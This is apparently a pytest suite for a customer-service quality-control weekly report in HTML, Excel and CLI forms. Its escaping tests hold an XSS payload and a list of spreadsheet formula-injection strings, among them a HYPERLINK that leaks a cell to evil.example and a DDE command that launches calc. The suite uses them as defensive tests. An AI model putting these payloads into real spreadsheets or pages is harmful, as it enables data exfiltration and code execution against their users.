"""The three forms of a report: the HTML page (self-contained, opened in headless Chromium and
screenshotted), the Excel workbook (read back with openpyxl), and `qc report weekly`.

Screenshots go to a temporary directory; set QC_REPORT_SCREENSHOTS=docs/screenshots to
refresh docs/screenshots/report.png.
"""

from __future__ import annotations

import json
import os
import re
import shutil
from collections import Counter
from datetime import datetime
from pathlib import Path
from typing import Any

import pytest

from qc_engine.clock import SHANGHAI
from qc_engine.reports.excel import SHEET_NAMES, build_workbook, render_xlsx
from qc_engine.reports.html import render_html
from qc_engine.service.weekly import build_weekly

from .seed import WEEK

CHROMIUM = Path("/usr/bin/chromium")
ROOT = Path(__file__).resolve().parents[2]


@pytest.fixture(params=["sqlite"])
def database_url(request, tmp_path):  # the forms do not depend on the database
    return f"sqlite:///{tmp_path / 'qc.sqlite3'}"


@pytest.fixture
def report(seeded: Any) -> dict[str, Any]:
    with seeded.begin() as session:
        return build_weekly(session, week=WEEK, base_url="http://qc.example")


@pytest.fixture
def empty_report(sessions: Any) -> dict[str, Any]:
    with sessions.begin() as session:
        return build_weekly(session, week="2026-W30")


# HTML ------------------------------------------------------------------------------------


def test_html_is_one_self_contained_page_in_chinese(report):
    page = render_html(report)
    assert page.startswith("<!DOCTYPE html>") and '<html lang="zh-CN">' in page
    assert "<script" not in page and "<link" not in page and "@import" not in page
    assert not re.search(r"\bsrc=|url\(", page)  # no image, font or stylesheet to fetch
    assert page.count("<svg") == 3  # trend, categories, score distribution
    for heading in (
        "概览",
        "趋势",
        "问题分类",
        "红线事件",
        "客服表现",
        "客户侧",
        "响应时效",
        "质检系统表现",
        "本周教学案例",
    ):
        assert f">{heading}" in page
    assert "2026 年第 47 周（11月16日—11月22日）" in page
    # Every red line links to its chat; agents marked for coaching are shown as such.
    for item in report["red_lines"]["items"]:
        assert f'href="{item["link"]}"' in page
    assert page.count("建议辅导</span>") == len(report["summary"]["coaching"])


def test_html_escapes_what_came_from_chats(report):
    report["red_lines"]["items"][0]["evidence"] = "<img src=x onerror=alert(1)>"
    page = render_html(report)
    assert "<img src=x" not in page and "&lt;img src=x" in page


def test_html_of_an_empty_week(empty_report):
    page = render_html(empty_report)
    assert "本周没有数据" in page and "没有质检数据" in page
    assert page.count("<svg") == 3


@pytest.fixture(scope="module")
def browser():
    if not CHROMIUM.exists():
        pytest.skip(
            "Debian chromium is not installed: apt-get install chromium (the test "
            "drives /usr/bin/chromium; `playwright install` is never run)"
        )
    sync_api = pytest.importorskip(
        "playwright.sync_api", reason="playwright is not installed: pip install playwright"
    )
    with sync_api.sync_playwright() as playwright:
        chromium = playwright.chromium.launch(
            executable_path=str(CHROMIUM),
            args=["--headless", "--no-sandbox", "--disable-gpu", "--no-first-run"],
        )
        try:
            yield chromium
        finally:
            chromium.close()


def _has_cjk_font() -> bool:
    import subprocess

    if shutil.which("fc-list") is None:
        return False
    found = subprocess.run(["fc-list", ":lang=zh"], capture_output=True, text=True)
    return bool(found.stdout.strip())


def test_html_in_chromium(report, browser, tmp_path):
    path = tmp_path / "report.html"
    path.write_text(render_html(report), encoding="utf-8")
    page = browser.new_page(viewport={"width": 1280, "height": 900})
    requests: list[str] = []
    page.on("request", lambda request: requests.append(request.url))
    page.goto(path.as_uri())
    assert requests == [path.as_uri()]  # nothing else is fetched
    assert page.title().startswith("质检周报")
    # Charts are drawn: each SVG has a size and marks in it.
    for box in page.locator("svg").all():
        size = box.bounding_box()
        assert size and size["width"] > 300 and size["height"] > 150
    assert page.locator("#trend svg polyline").count() == 2
    assert page.locator("#categories svg rect").count() > 2 * len(report["categories"])
    # Nothing is wider than the page, and the Chinese text has a font (not tofu boxes).
    assert page.evaluate("document.documentElement.scrollWidth <= window.innerWidth")
    if not _has_cjk_font():
        pytest.skip(
            "no Chinese font installed (fc-list :lang=zh is empty): the report would "
            "show boxes; .ci/run installs fonts-noto-cjk"
        )
    width = page.evaluate("""() => { const s = document.createElement('span');
        s.textContent = '质检周报'; document.body.appendChild(s);
        const w = s.getBoundingClientRect().width; s.remove(); return w; }""")
    assert width > 30
    # The tables show what the report holds.
    rows = page.locator("#agents table tr").count()
    assert rows == len(report["agents"]) + 1
    red = page.locator("#redlines a")
    assert red.count() == report["red_lines"]["shown"]
    shot = tmp_path / "report.png"
    page.screenshot(path=str(shot), full_page=True)
    assert shot.stat().st_size > 50_000
    target = os.environ.get("QC_REPORT_SCREENSHOTS")
    if target:
        folder = ROOT / target if not Path(target).is_absolute() else Path(target)
        folder.mkdir(parents=True, exist_ok=True)
        shutil.copy(shot, folder / "report.png")
    page.close()


# Excel -----------------------------------------------------------------------------------


def _reopen(report: dict[str, Any], tmp_path: Path) -> Any:
    from openpyxl import load_workbook

    path = tmp_path / "report.xlsx"
    path.write_bytes(render_xlsx(report))
    return load_workbook(path)


def _table(sheet: Any) -> list[dict[str, Any]]:
    header = [c.value for c in sheet[1]]
    return [
        dict(zip(header, row, strict=True))
        for row in sheet.iter_rows(min_row=2, values_only=True)
        if any(v is not None for v in row)
    ]


def test_workbook_one_sheet_per_section(report, tmp_path):
    book = _reopen(report, tmp_path)
    assert book.sheetnames == list(SHEET_NAMES)
    for sheet in book.worksheets:
        header_row = 4 if sheet.title == "概览" else 1
        assert sheet.freeze_panes == f"A{header_row + 1}", sheet.title
        assert sheet.cell(row=header_row, column=1).font.bold, sheet.title


def test_workbook_numbers_are_numbers(report, tmp_path):
    book = _reopen(report, tmp_path)
    agents = _table(book["客服表现"])
    assert [a["客服"] for a in agents] == [a["agent"] for a in report["agents"]]
    for row, agent in zip(agents, report["agents"], strict=True):
        assert row["会话"] == agent["chats"] and isinstance(row["会话"], int)
        assert row["平均分"] == pytest.approx(agent["mean_score"])
        assert row["合格率"] == pytest.approx(agent["pass_rate"])  # a fraction, not "97%"
        assert row["红线"] == agent["red_lines"]
        assert (row["建议辅导"] == "是") == agent["coaching"]
    assert book["客服表现"]["G2"].number_format == "0.0%"
    categories = _table(book["问题分类"])
    assert [(c["代码"], c["问题数"], c["上周"], c["变化"]) for c in categories] == [
        (c["code"], c["flags"], c["previous_flags"], c["change"]) for c in report["categories"]
    ]
    overview = {row[0]: row[1:] for row in book["概览"].iter_rows(min_row=5, values_only=True)}
    assert overview["质检会话"][0] == report["coverage"]["chats"]
    assert overview["合格率"][0] == pytest.approx(report["coverage"]["pass_rate"])
    assert overview["红线事件"] == (
        report["coverage"]["red_lines"],
        report["coverage"]["previous"]["red_lines"],
        report["coverage"]["red_lines"] - report["coverage"]["previous"]["red_lines"],
    )
    red = _table(book["红线事件"])
    assert Counter(r["会话"] for r in red) == Counter(
        i["transcript_id"] for i in report["red_lines"]["items"]
    )
    link = book["红线事件"]["J2"].hyperlink
    assert link is not None and link.target.startswith("http://qc.example/ui/chats/")
    rules = _table(book["规则准确率"])
    assert [r["准确率"] for r in rules] == [r["precision"] for r in report["qc_system"]["rules"]]
    response = _table(book["响应时效"])
    assert response[0]["客服"] == "全部"
    assert (
        response[0]["首响中位数(秒)"] == report["response"]["overall"]["first_response"]["median"]
    )


def test_workbook_names_channels_in_chinese_and_writes_times_as_date_times(report, tmp_path):
    """Channels as the desk names them (淘宝, not taobao); times and days as Excel date-times
    in Asia/Shanghai wall time (sortable and filterable by date), not text."""
    items = report["red_lines"]["items"]
    assert len(items) >= 4
    for item, channel in zip(items, ("jd", "wechat", "kuaishou", None), strict=False):
        item["channel"] = channel
    book = _reopen(report, tmp_path)
    red = _table(book["红线事件"])
    assert [r["渠道"] for r in red[:4]] == ["京东", "微信", "kuaishou", None]
    assert {r["渠道"] for r in red[4:]} == {"淘宝"}  # the seeded chats are all taobao's
    timed = [(r, i) for r, i in zip(red, items, strict=True) if i["started_at"]]
    assert timed
    for row, item in timed:
        shanghai = datetime.fromisoformat(item["started_at"]).astimezone(SHANGHAI)
        assert row["时间"] == shanghai.replace(tzinfo=None)
    assert book["红线事件"]["A2"].number_format == "yyyy-mm-dd hh:mm:ss"
    # A time given in UTC is written as Shanghai's wall time: Sunday 16:30 UTC is Monday.
    items[0]["started_at"] = "2026-11-15T16:30:00+00:00"
    again = _table(_reopen(report, tmp_path)["红线事件"])
    assert again[0]["时间"] == datetime(2026, 11, 16, 0, 30)

    trend = _table(book["趋势"])
    assert [r["周一"] for r in trend] == [
        datetime.fromisoformat(w["start"]) for w in report["trend"]
    ]
    assert book["趋势"]["B2"].number_format == "yyyy-mm-dd"
    cases = _table(book["教学案例"])
    assert cases and all(isinstance(c["时间"], datetime) for c in cases)
    assert book["教学案例"]["D2"].number_format == "yyyy-mm-dd hh:mm"


def test_workbook_colours_what_is_abnormal(report, tmp_path):
    book = _reopen(report, tmp_path)

    def rules(sheet: Any) -> dict[str, list[Any]]:
        found: dict[str, list[Any]] = {}
        for cells in sheet.conditional_formatting:
            found[str(cells.sqref)] = list(cells.rules)
        return found

    agents = rules(book["客服表现"])
    last = len(report["agents"]) + 1
    mean_rule = agents[f"D2:D{last}"][0]
    assert mean_rule.operator == "lessThan" and float(mean_rule.formula[0]) == 90.0
    assert agents[f"G2:G{last}"][0].formula == ["0.9"]  # pass rate below target
    assert any(r.type == "expression" for r in agents[f"B2:B{last}"])  # coaching rows
    categories = rules(book["问题分类"])
    rising = categories[f"L2:L{len(report['categories']) + 1}"][0]
    assert rising.operator == "greaterThan" and rising.formula == ["0.0"]
    precision = rules(book["规则准确率"])
    assert next(iter(precision.values()))[0].formula == ["0.7"]
    response = rules(book["响应时效"])
    assert any(r[0].formula == ["30.0"] for r in response.values())
    assert any(r[0].formula == ["180.0"] for r in response.values())
    # The rule fires where the data is abnormal: the report itself says some are.
    assert any(a["mean_score"] < 90 for a in report["agents"])


def test_workbook_of_an_empty_week(empty_report, tmp_path):
    book = _reopen(empty_report, tmp_path)
    assert "没有质检数据" in book["概览"]["A2"].value
    assert book["问题分类"]["A2"].value == "本周没有问题记录"
    assert build_workbook(empty_report).sheetnames == list(SHEET_NAMES)


# The command -------------------------------------------------------------------------------


def test_qc_report_weekly_writes_all_three(seeded, database_url, tmp_path, capsys, monkeypatch):
    from qc_engine.cli import main

    monkeypatch.setenv("QC_DATABASE_URL", database_url)
    out = tmp_path / "out"
    assert main(["report", "weekly", "--week", str(WEEK), "--out", str(out)]) == 0
    files = sorted(p.name for p in out.iterdir())
    assert files == ["weekly-2026-W47.html", "weekly-2026-W47.json", "weekly-2026-W47.xlsx"]
    data = json.loads((out / "weekly-2026-W47.json").read_text(encoding="utf-8"))
    assert data["week"] == "2026-W47" and data["coverage"]["chats"] == 135
    printed = capsys.readouterr().out
    assert "135 chats" in printed and "weekly-2026-W47.xlsx" in printed
    # One shop, one form, stored.
    assert (
        main(
            [
                "report",
                "weekly",
                "--week",
                "2026-W47",
                "--shop",
                "Q女家旗舰店",
                "--out",
                str(out),
                "--format",
                "json",
                "--store",
            ]
        )
        == 0
    )
    assert (out / "weekly-2026-W47-Q女家旗舰店.json").exists()
    from qc_engine.service.report_store import stored_report

    with seeded() as session:
        assert stored_report(session, week="2026-W47", shop="Q女家旗舰店") is not None


def test_qc_report_weekly_on_an_empty_week_says_where_the_data_is(
    seeded, database_url, tmp_path, capsys, monkeypatch
):
    from qc_engine.cli import main

    monkeypatch.setenv("QC_DATABASE_URL", database_url)
    assert main(["report", "weekly", "--week", "2026-W30", "--out", str(tmp_path)]) == 0
    captured = capsys.readouterr()
    assert "no chats in this week" in captured.out
    assert "from 2026-W45 to 2026-W48" in captured.err


def test_qc_report_weekly_rejects_a_bad_week(tmp_path, capsys):
    from qc_engine.cli import main

    assert (
        main(
            [
                "report",
                "weekly",
                "--week",
                "2026-47",
                "--out",
                str(tmp_path),
                "--database",
                f"sqlite:///{tmp_path / 'x.sqlite3'}",
            ]
        )
        == 2
    )
    assert "2026-W47" in capsys.readouterr().err


HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"x")',
    "+1+1",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
]
OUTSIDE_FIELDS = {
    "agent",
    "shop",
    "message",
    "evidence",
    "note",
    "reviewer",
    "transcript_id",
    "channel",
}


def _poison(value: Any, counter: list[int]) -> Any:
    """The report with every field that came from the chats or the reviewers replaced by a
    formula-looking text (cycling through HOSTILE)."""
    if isinstance(value, dict):
        out = {}
        for key, item in value.items():
            if key in OUTSIDE_FIELDS and isinstance(item, str):
                counter[0] += 1
                out[key] = HOSTILE[counter[0] % len(HOSTILE)]
            else:
                out[key] = _poison(item, counter)
        return out
    if isinstance(value, list):
        return [_poison(item, counter) for item in value]
    return value


def test_workbook_writes_outside_text_as_text(report, tmp_path):
    """Agent and shop names, messages, evidence and notes that start with =, +, -, @, a tab
    or a CR are written as text cells, never as formulas (formula injection)."""
    import zipfile

    counter = [0]
    poisoned = _poison(report, counter)
    poisoned["shop"] = HOSTILE[0]
    assert counter[0] > 50  # the seeded week has that many outside texts
    path = tmp_path / "report.xlsx"
    path.write_bytes(render_xlsx(poisoned))
    with zipfile.ZipFile(path) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/sheet")]
        assert sheets
        for name in sheets:
            assert "<f>" not in archive.read(name).decode("utf-8"), name
    from openpyxl import load_workbook

    book = load_workbook(path)
    written = {text.replace("\r", "\n"): text for text in HOSTILE}  # XML reads CR as LF
    found: Counter[str] = Counter()
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if cell.value in written:
                    found[written[cell.value]] += 1
                    assert cell.data_type == "s" and cell.quotePrefix, cell.coordinate
    assert set(found) == set(HOSTILE), found  # every kind was written, as text


def test_workbook_takes_control_characters_from_outside(report, tmp_path):
    """A shop or agent name with a control character (found by the schema test: a 500 on
    /v1/reports/weekly.xlsx) is written with U+FFFD in its place."""
    report["shop"] = "店\x18铺\x01"
    report["agents"][0]["agent"] = "小\x0b美"
    from openpyxl import load_workbook

    path = tmp_path / "report.xlsx"
    path.write_bytes(render_xlsx(report))
    book = load_workbook(path)
    assert "店\ufffd铺\ufffd" in book["概览"]["A1"].value
    assert any("小\ufffd美" in row for row in book["客服表现"].iter_rows(values_only=True))
